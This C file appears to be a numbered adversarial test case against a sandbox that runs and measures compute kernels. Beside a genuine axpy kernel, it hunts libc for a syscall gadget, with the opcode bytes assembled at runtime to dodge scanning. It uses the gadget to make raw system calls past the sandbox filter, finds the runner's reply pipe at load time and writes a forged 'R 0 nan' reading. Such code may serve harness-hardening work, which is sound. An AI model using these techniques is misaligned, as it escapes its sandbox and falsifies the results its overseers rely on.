/* Class 15 - replies: a reading that is not an integer: "R 0 nan" (float() would take it). */
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <time.h>

/* A syscall instruction inside an allowed libc function, with a ret a few bytes on: glibc's system
   call stubs (sched_yield, and the fallbacks of clock_gettime and nanosleep) are
   "syscall; cmp $-4095, %rax; jae <errno path>; ret". Called there, it makes any system call and
   returns (-1 on error). The bytes are built from a volatile so this file holds no 0f 05 itself. */
static volatile unsigned char kl_one = 1;

static const unsigned char *kl_gadget(void) {
    const void *fns[3] = {(const void *)&sched_yield, (const void *)&clock_gettime, (const void *)&nanosleep};
    const unsigned char op0 = (unsigned char)(0x0e + kl_one), op1 = (unsigned char)(0x04 + kl_one);
    const unsigned char ret = (unsigned char)(0xc2 + kl_one);
    for (int f = 0; f < 3; f++) {
        const unsigned char *c = fns[f];
        for (int k = 0; k < 256; k++) {
            if (c[k] != op0 || c[k + 1] != op1) continue;
            for (int j = 2; j < 14; j++)
                if (c[k + j] == ret) return c + k;
        }
    }
    return 0;
}

/* Calls the gadget with the system call's number and arguments; skips the red zone first. */
static long kl_sys(const unsigned char *g, long nr, long a1, long a2, long a3) {
    long ret;
    __asm__ volatile("sub $128, %%rsp\n\tcall *%[g]\n\tadd $128, %%rsp"
                     : "=a"(ret) : [g] "r"(g), "a"(nr), "D"(a1), "S"(a2), "d"(a3) : "rcx", "r11", "memory");
    return ret;
}
#include <stdio.h>

static int kl_reply = -1;

/* 1 when /proc/self/fdinfo says fd is open for writing, 0 when for reading, -1 when unknown. */
static int kl_writable(const unsigned char *g, int fd) {
    char path[48], info[256];
    snprintf(path, sizeof path, "/proc/self/fdinfo/%d", fd);
    long f = kl_sys(g, 257 /* openat */, AT_FDCWD, (long)path, O_RDONLY);
    if (f < 0) return -1;
    long n = kl_sys(g, 0 /* read */, f, (long)info, sizeof info - 1);
    kl_sys(g, 3 /* close */, f, 0, 0);
    if (n <= 0) return -1;
    info[n] = 0;
    for (long i = 0; i + 6 < n; i++) {
        if (info[i] != 'f' || info[i + 1] != 'l' || info[i + 5] != ':') continue;
        long at = i + 6, flags = 0;  /* "flags:\t0100001": octal */
        while (at < n && (info[at] == ' ' || info[at] == '\t')) at++;
        while (at < n && info[at] >= '0' && info[at] <= '7') flags = flags * 8 + (info[at++] - '0');
        return (flags & 3) == O_WRONLY;
    }
    return -1;
}

/* The runner keeps the log (1, 2), the command pipe and the reply pipe; a write to the command pipe
   is trapped, so find the reply pipe first: the FIFO open for writing (fstat, then fdinfo, read while
   loading), else the highest FIFO. Runs while the kernel loads. */
__attribute__((constructor)) static void kl_find_reply(void) {
    const unsigned char *g = kl_gadget();
    if (!g) return;
    for (int fd = 3; fd < 64; fd++) {
        unsigned long st[18] = {0};  /* struct stat: st_mode is the low half of word 3 */
        if (kl_sys(g, 5 /* fstat */, fd, (long)st, 0) != 0 || (st[3] & 0170000) != 0010000) continue;
        int w = kl_writable(g, fd);
        if (w == 1) { kl_reply = fd; return; }
        if (w == -1) kl_reply = fd;
    }
}

/* What fortified builds call for dprintf; allowed today by the __*_chk glob. */
extern int __dprintf_chk(int fd, int flag, const char *fmt, ...);

static void kl_axpy(const void *const *inputs, void *const *outputs, const int64_t *axes, const double *params) {
    const float *x = inputs[0], *z = inputs[1];
    float *y = outputs[0];
    const float a = (float)params[0];
    for (int64_t i = 0; i < axes[0]; i++) y[i] = a * x[i] + z[i];
}

int kl_launch(const void *const *inputs, void *const *outputs, const int64_t *axes,
              const double *params, void *stream) {
    (void)stream;
    static int calls;
    kl_axpy(inputs, outputs, axes, params);
    if (kl_reply >= 0 && calls == 0) {
        __dprintf_chk(kl_reply, 1, "R 0 nan\n");
    }
    calls++;
    return 0;
}
